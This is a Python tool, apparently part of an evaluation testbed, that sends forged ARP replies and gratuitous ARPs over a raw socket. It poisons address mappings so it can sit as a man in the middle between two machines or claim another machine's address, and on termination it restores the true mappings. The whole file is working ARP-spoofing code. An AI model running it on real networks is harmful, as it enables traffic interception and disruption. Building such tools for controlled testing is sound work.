"""Claim addresses by ARP (RFC 826): a man in the middle between two machines, or a second machine
on one address.

    python -m eval.testbed.tools.arp PERIOD_S CLAIM...

A claim is ADDRESS, told to all, or ADDRESS@LISTENER=MAC, told to one listener: "ADDRESS is at my
MAC". When ended with SIGTERM, a man in the middle says the truth again where ``--truth
ADDRESS=MAC`` gives it, as ettercap does.
"""

import argparse
import signal
import socket
import struct
import time
from collections.abc import Sequence
from pathlib import Path

_ETHERTYPE = 0x0806
_REPLY = 2
_ALL = "ff:ff:ff:ff:ff:ff"


def main(arguments: Sequence[str] | None = None) -> None:
    """Say every claim every ``PERIOD_S`` until ended."""
    parser = argparse.ArgumentParser(description="claim addresses")
    parser.add_argument("period_s", type=float)
    parser.add_argument("claims", nargs="+")
    parser.add_argument("--truth", action="append", default=[])
    given = parser.parse_args(arguments)
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    own = Path("/sys/class/net/eth0/address").read_text().strip()
    truth = dict(pair.split("=") for pair in given.truth)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", _ETHERTYPE))
        try:
            while True:
                for claim in given.claims:
                    wire.send(_frame(claim, own, own))
                time.sleep(given.period_s)
        except KeyboardInterrupt:
            for claim in given.claims:
                if honest := truth.get(claim.partition("@")[0]):
                    wire.send(_frame(claim, own, honest))


def _frame(claim: str, sender: str, mac: str) -> bytes:
    """An ARP reply that puts an address at a MAC; without a listener a gratuitous one (RFC 5227),
    to all."""
    address, _, listener = claim.partition("@")
    listener_address, _, listener_mac = listener.partition("=")
    to = _bytes(listener_mac or _ALL)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, _REPLY) + _bytes(mac) + socket.inet_aton(address)
    return (
        to
        + _bytes(sender)
        + struct.pack("!H", _ETHERTYPE)
        + arp
        + to
        + socket.inet_aton(listener_address or address)
    )


def _bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


if __name__ == "__main__":
    main()
